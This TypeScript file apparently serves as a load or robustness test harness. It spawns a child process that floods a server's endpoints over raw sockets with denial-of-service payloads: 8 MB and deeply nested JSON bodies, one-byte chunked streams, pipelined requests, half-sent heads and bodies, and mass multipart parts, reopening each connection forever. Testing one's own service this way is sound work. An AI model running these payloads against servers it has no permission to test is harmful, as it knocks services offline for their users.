/** A child process that attacks a server without a key, on the given number of connections. */
import { connect } from 'node:net'

export interface Attack {
  readonly url: string
  /** One connection each, reopened whenever it is closed. */
  readonly connections: number
  /** The attack that all of them use; all attacks in turn when absent. */
  readonly payload?: PayloadName | undefined
}

const head = (path: string, length: string, contentType = 'application/json') =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${contentType}\r\n${length}\r\n\r\n`
const lengthOf = (text: string) => `Content-Length: ${text.length}`
const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`
const eightMb = `{"PhoneList":"","a":[${'[],'.repeat(2_600_000)}[]]}`
const deep = `[${'{"a":1},'.repeat(8_000)}[]]`
const parts = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(1_200)
const multipart = 'multipart/form-data; boundary=b'

const payloads = {
  'bodies of 8 MB': head('/v1.5/Scrub/litigator', lengthOf(eightMb)) + eightMb,
  'decisions of 8 MB': head('/v1/decisions', lengthOf(eightMb)) + eightMb,
  'deep JSON': head('/v1.5/Scrub/litigator', lengthOf(deep)) + deep,
  'chunks of a byte':
    head('/app/main/rpc/scrub', 'Transfer-Encoding: chunked') + '1\r\n[\r\n'.repeat(300_000),
  'requests ahead': get('/v1/predial?number=2125550100&kind=ai').repeat(50),
  'readyz ahead': get('/readyz').repeat(20),
  'the description ahead': get('/openapi.json').repeat(20),
  'half a head': 'POST /v1/decisions HTTP/1.1\r\nHost: x\r\nlogin',
  'half a body': head('/app/main/rpc/pdnc', lengthOf(deep)) + deep.slice(0, 100),
  'many parts': head('/app/main/rpc/scrub', lengthOf(parts), multipart) + parts,
} as const

export type PayloadName = keyof typeof payloads
export const payloadNames = Object.keys(payloads) as readonly PayloadName[]

function attack({ url, connections, payload }: Attack): void {
  const { hostname, port } = new URL(url)
  const open = (index: number): void => {
    const socket = connect(Number(port), hostname)
    const name = payload ?? (payloadNames[index % payloadNames.length] as PayloadName)
    const pour = () => {
      while (!socket.destroyed && socket.write(payloads[name]));
    }
    socket.on('connect', pour).on('drain', pour)
    socket.on('error', () => undefined).resume()
    socket.on('close', () => setTimeout(() => open(index), 1))
  }
  for (let index = 0; index < connections; index += 1) open(index)
}

process.on('message', attack)
process.on('disconnect', () => process.exit())
